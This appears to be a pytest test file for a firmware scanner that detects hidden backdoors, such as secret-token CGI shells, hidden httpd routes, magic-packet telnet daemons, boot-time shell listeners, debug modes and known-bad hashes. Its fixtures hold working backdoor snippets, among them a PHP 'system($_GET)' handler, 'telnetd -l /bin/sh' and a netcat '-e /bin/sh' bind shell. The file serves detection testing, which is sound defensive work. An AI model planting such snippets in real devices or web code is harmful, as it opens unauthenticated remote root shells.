"""Hidden-functionality heuristics (SPY404, SPY410-SPY417) on inputs built in code."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from spyless.analyzers.backdoors.debug_modes import DebugModeSettings
from spyless.analyzers.backdoors.known_bad import (
    KnownBad,
    KnownBadBinaries,
    KnownBadTableError,
    parse_table,
    shipped_table,
)
from spyless.analyzers.backdoors.listeners import BootShellListeners, MagicPacketDaemons
from spyless.analyzers.backdoors.patterns import starts_telnetd, suspicious_endpoint
from spyless.analyzers.backdoors.web_binaries import WebServerHiddenRoutes
from spyless.analyzers.backdoors.web_handlers import WebBackdoorScripts
from spyless.model.findings import Confidence, Severity
from spyless.unpack.interface import ArtifactKind
from tests.analyzers_helpers import run_file_analyzer, scan_tree

ELF = b"\x7fELF\x01\x01\x01" + b"\x00" * 57

DIAG_CGI = (
    "#!/bin/sh\n"
    'echo "Content-Type: text/plain"\necho\n'
    'case "$QUERY_STRING" in\n'
    "  *ACME_SECRET_SWITCH*)\n"
    '    CMD=$(echo "$QUERY_STRING" | sed "s/.*cmd=//")\n'
    '    /bin/sh -c "$CMD" 2>&1 ;;\n'
    '  *) echo "ok" ;;\n'
    "esac\n")


def _ids(out: object) -> list[tuple[str, int | None]]:
    return [(f.id, f.evidence[0].location.line) for f in out.findings]  # type: ignore[attr-defined]


# --- web-facing scripts ------------------------------------------------------------------


def test_cgi_with_magic_token_and_shell() -> None:
    out = run_file_analyzer(WebBackdoorScripts(), DIAG_CGI.encode(), "/www/cgi-bin/diag.cgi",
                            ArtifactKind.SCRIPT)
    assert _ids(out) == [("SPY410", 7), ("SPY411", 5)]
    switch = out.findings[1]
    assert (switch.severity, switch.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    assert "ACME_SECRET_SWITCH" in switch.message


def test_cgi_test_comparison_with_opaque_token_and_telnetd() -> None:
    script = ('#!/bin/sh\nKEY=$(echo "$QUERY_STRING" | cut -d= -f2)\n'
              'if [ "$KEY" = "x9f3kq7zv21m" ]; then\n  telnetd -l /bin/sh -p 2323 &\nfi\n')
    out = run_file_analyzer(WebBackdoorScripts(), script.encode(), "/www/cgi-bin/x.cgi",
                            ArtifactKind.SCRIPT)
    assert _ids(out) == [("SPY410", 4), ("SPY411", 3)]
    assert out.findings[0].severity is Severity.CRITICAL  # telnetd -l /bin/sh: no login
    assert out.findings[1].confidence is Confidence.MEDIUM


def test_php_exec_of_request_data() -> None:
    php = "<?php\nif ($_GET['k'] == 'hidden_debug_on') { system($_GET['c']); }\n"
    out = run_file_analyzer(WebBackdoorScripts(), php.encode(), "/www/admin/x.php",
                            ArtifactKind.TEXT)
    assert [f.id for f in out.findings] == ["SPY410", "SPY411"]


def test_ordinary_cgi_and_client_side_files_are_quiet() -> None:
    ordinary = ('#!/bin/sh\necho "Content-Type: text/html"\necho\n'
                '# telnetd -l /bin/sh   (removed for release)\n'
                'case "$QUERY_STRING" in\n  *page=status*) cat /tmp/status ;;\nesac\n'
                'killall telnetd\n')
    out = run_file_analyzer(WebBackdoorScripts(), ordinary.encode(), "/www/cgi-bin/status.cgi",
                            ArtifactKind.SCRIPT)
    assert out.findings == []
    js = b'function f(){ run("telnetd -l /bin/sh"); if (q == "BACKDOOR_ON") {} }\n'
    out = run_file_analyzer(WebBackdoorScripts(), js, "/www/js/app.js", ArtifactKind.TEXT)
    assert out.findings == []


def test_cgi_named_like_a_debug_endpoint() -> None:
    out = run_file_analyzer(WebBackdoorScripts(), b"#!/bin/sh\necho ok\n",
                            "/www/cgi-bin/telnet_debug.cgi", ArtifactKind.SCRIPT)
    assert [(f.id, f.confidence) for f in out.findings] == [("SPY413", Confidence.LOW)]


# --- web server binaries -----------------------------------------------------------------


def test_httpd_route_next_to_telnetd() -> None:
    data = (ELF + b"/goform/telnet\x00TendaTelnet\x00telnetd &\x00" + b"\x00" * 8000
            + b"/cgi-bin/debug.cgi\x00/goform/update\x00")
    out = run_file_analyzer(WebServerHiddenRoutes(), data, "/bin/httpd", ArtifactKind.ELF)
    assert [(f.id, f.confidence, f.evidence[0].location.offset) for f in out.findings] == [
        ("SPY412", Confidence.MEDIUM, 64), ("SPY413", Confidence.LOW, 8101)]


def test_httpd_without_hidden_routes_is_quiet() -> None:
    data = ELF + b"/userRpm/StatusRpm.htm\x00telnetd\x00debug=%d\x00HTTP_DEBUG_PRINT\x00"
    out = run_file_analyzer(WebServerHiddenRoutes(), data, "/usr/bin/httpd", ArtifactKind.ELF)
    assert out.findings == []


def test_suspicious_endpoint_names() -> None:
    assert suspicious_endpoint("/goform/ate")
    assert suspicious_endpoint("/cgi-bin/mfg_test.cgi")
    assert not suspicious_endpoint("/goform/update")
    assert not suspicious_endpoint("/userRpm/DateTimeCfgRpm.htm")
    assert not suspicious_endpoint("debug.txt")


def test_telnetd_start_versus_mention() -> None:
    assert starts_telnetd("[ -x /usr/sbin/telnetd ] && /usr/sbin/telnetd -l /bin/login") == (
        "-l /bin/login")
    assert starts_telnetd("start-stop-daemon -S -x /usr/sbin/telnetd -- -p 2323") == "-p 2323"
    assert starts_telnetd("killall telnetd") is None
    assert starts_telnetd('echo "telnetd started"') is None


# --- listeners ---------------------------------------------------------------------------


def test_magic_packet_daemon() -> None:
    data = ELF + b"recvfrom\x00telnetenable: bad packet\x00utelnetd -d -i br0\x00"
    out = run_file_analyzer(MagicPacketDaemons(), data, "/usr/sbin/telnetenabled",
                            ArtifactKind.ELF)
    assert [(f.id, f.confidence) for f in out.findings] == [("SPY414", Confidence.HIGH)]
    out = run_file_analyzer(MagicPacketDaemons(), data, "/usr/bin/httpd", ArtifactKind.ELF)
    assert out.findings == []  # web servers are judged by their routes
    plain = ELF + b"recvfrom\x00telnetd\x00"
    assert run_file_analyzer(MagicPacketDaemons(), plain, "/bin/x", ArtifactKind.ELF
                             ).findings == []


def test_boot_listeners() -> None:
    rc_local = ("#!/bin/sh\n"
                "# telnetd -p 4444 -l /bin/sh\n"
                "/usr/sbin/telnetd -p 65534 -l /bin/login.sh\n"
                "telnetd -p 23\n"
                "nc -l -p 4444 -e /bin/sh &\n"
                "/usr/sbin/telnetenabled &\n"
                "exit 0\n")
    out = run_file_analyzer(BootShellListeners(), rc_local.encode(), "/etc/rc.local",
                            ArtifactKind.SCRIPT)
    # The odd-port telnetd and the netcat shell are the boot-services analyzer's to judge
    # (test_shell_listeners_at_boot_are_judged_once below).
    assert _ids(out) == [("SPY414", 6)]
    inetd = b"# shell stream tcp nowait root /bin/sh sh -i\n2323 stream tcp nowait root /bin/sh sh -i\n"
    out = run_file_analyzer(BootShellListeners(), inetd, "/etc/inetd.conf", ArtifactKind.TEXT)
    assert _ids(out) == [("SPY415", 2)]


def test_shell_listeners_at_boot_are_judged_once(tmp_path: Path) -> None:
    from spyless.analyzers.backdoors.listeners import BootShellListeners as Listeners
    from spyless.analyzers.services.boot_services import BootServices
    from tests.analyzers_helpers import scan_tree

    report = scan_tree(tmp_path, {
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": "#!/bin/sh\n/etc/rc.local\n",
        "/etc/rc.local": "#!/bin/sh\n/usr/sbin/telnetd -p 65534 -l /bin/login\n"
                         "nc -l -p 4444 -e /bin/sh &\n",
        "/usr/sbin/telnetd": b"\x7fELF" + b"\0" * 60, "/usr/bin/nc": b"\x7fELF" + b"\0" * 60,
        "/bin/sh": b"\x7fELF" + b"\0" * 60, "/bin/login": b"\x7fELF" + b"\0" * 60,
    }, file_analyzers=(Listeners(),), image_analyzers=(BootServices(),))
    ids = sorted(f.id for f in report.findings if f.id in ("SPY301", "SPY312", "SPY415"))
    assert ids == ["SPY301", "SPY312"]


# --- debug and manufacturing modes -------------------------------------------------------


def test_nvram_defaults_blob() -> None:
    blob = b"lan_ipaddr=192.168.0.1\x00mfg_mode=1\x00telnet_enable=1\x00debug=0\x00debug=1\x00"
    out = run_file_analyzer(DebugModeSettings(), blob, "/etc/nvram.default", ArtifactKind.DATA)
    assert [(f.id, f.severity, f.evidence[0].excerpt) for f in out.findings] == [
        ("SPY416", Severity.MEDIUM, "mfg_mode=1"), ("SPY416", Severity.MEDIUM, "telnet_enable=1"),
        ("SPY416", Severity.LOW, "debug=1")]


def test_uci_and_comments() -> None:
    uci = (b"config system\n\toption factory_mode '1'\n#\toption telnet_enable '1'\n"
           b"\toption debug '0'\n")
    out = run_file_analyzer(DebugModeSettings(), uci, "/etc/config/system", ArtifactKind.TEXT)
    assert _ids(out) == [("SPY416", 2)]
    script = b"#!/bin/sh\nDEBUG=1\n"
    out = run_file_analyzer(DebugModeSettings(), script, "/etc/init.d/foo", ArtifactKind.TEXT)
    assert out.findings == []


def test_uboot_environment() -> None:
    env = (b"\x12\x34\x56\x78bootcmd=bootm 0x9f020000\x00bootdelay=1\x00baudrate=115200\x00"
           b"bootargs=console=ttyS0,115200 root=31:02\x00\x00")
    out = run_file_analyzer(DebugModeSettings(), env, "/etc/u-boot-env.bin", ArtifactKind.DATA)
    assert [(f.id, f.severity, f.evidence[0].excerpt) for f in out.findings] == [
        ("SPY417", Severity.LOW, "bootdelay=1")]
    locked = env.replace(b"bootdelay=1", b"bootdelay=-2")
    assert run_file_analyzer(DebugModeSettings(), locked, "/etc/u-boot-env.bin",
                             ArtifactKind.DATA).findings == []
    keyed = env.replace(b"\x00\x00", b"\x00bootstopkey=xyzzy\x00\x00")
    assert run_file_analyzer(DebugModeSettings(), keyed, "/etc/u-boot-env.bin",
                             ArtifactKind.DATA).findings == []


# --- known-bad hashes --------------------------------------------------------------------


def test_shipped_table_cites_each_hash() -> None:
    table = shipped_table()
    assert "605861f833fc181c7cdcabd5577ddb8989bea332648a8f498b4eef89b8f85ad4" in table
    for entry in table.values():
        assert entry.advisory == "CVE-2024-3094"
        assert entry.reference.startswith("https://")
        assert entry.hash_source


def test_malformed_table_is_our_error() -> None:
    with pytest.raises(KnownBadTableError):
        parse_table("sha256\tfile\n")
    header = "sha256\tfile\tadvisory\treference\thash_source\tdescription\n"
    with pytest.raises(KnownBadTableError, match="row 2"):
        parse_table(header + "nothex\ta\tb\tc\td\te\n")


def test_known_bad_hash_through_the_engine(tmp_path: Path) -> None:
    bad = ELF + b"pretend backdoored library"
    digest = hashlib.sha256(bad).hexdigest()
    table = {digest: KnownBad(digest, "libbad.so", "TEST-0001", "https://example.test/a",
                              "computed in this test", "test-only backdoored library")}
    report = scan_tree(tmp_path, {"/usr/lib/libbad.so": bad, "/usr/lib/libok.so": ELF + b"ok"},
                       file_analyzers=[KnownBadBinaries(table)], image_analyzers=[])
    assert [(f.id, f.location.path) for f in report.findings] == [
        ("SPY404", "/usr/lib/libbad.so")]
    assert digest in report.findings[0].message
